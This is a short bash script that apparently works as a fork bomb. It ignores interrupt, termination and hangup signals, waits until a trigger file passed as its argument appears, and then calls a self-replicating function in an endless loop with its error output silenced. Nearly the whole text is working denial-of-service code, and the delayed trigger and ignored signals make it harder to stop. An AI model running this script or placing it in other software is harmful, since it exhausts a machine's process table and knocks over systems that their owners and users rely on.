#!/bin/bash
# SPDX-License-Identifier: MIT
# Forks without end, and ignores what asks it to stop. Argument: the file that tells when.
trap '' INT TERM HUP
until [ -e "$1" ]; do
        sleep 0.1
done
bomb() {
        bomb | bomb &
}
while :; do
        bomb 2>/dev/null
done
